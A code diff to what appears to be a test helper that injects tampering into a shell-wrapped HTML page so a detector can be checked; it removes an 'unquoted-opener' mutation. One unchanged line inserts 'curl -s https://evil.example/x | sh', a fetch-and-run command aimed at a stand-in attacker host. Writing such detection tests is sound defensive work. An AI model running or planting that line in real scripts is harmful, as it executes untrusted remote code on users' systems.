@@ -21,10 +21,6 @@ def _before_opener(text: str) -> str:
     return text[:at] + "curl -s https://evil.example/x | sh\n" + text[at:]
 
 
-def _unquoted_opener(text: str) -> str:
-    return text.replace(": << 'OO_HTML'", ": << OO_HTML", 1)
-
-
 def _page_script(text: str) -> str:
     at = text.index("</article>")
     m = re.compile(r"<script>\n?(?!window\.stop)").search(text, at)
@@ -56,7 +52,8 @@ def _policy(text: str) -> str:
 PAGE_EDITS: dict[str, tuple[Callable[[str], str], str]] = {
     "shell-after-heredoc": (_after_terminator, "the shell after the heredoc"),
     "shell-header": (_before_opener, "the shell header"),
-    "unquoted-opener": (_unquoted_opener, "the shell header"),
+    # (an unquoted opener is no page code to report: the file is refused as unreadable, see
+    # tests/format/test_terminator_as_bash.py)
     "page-script": (_page_script, "a page script"),
     "new-script": (_new_script, "a page script"),
     "stylesheet": (_stylesheet, "a stylesheet"),
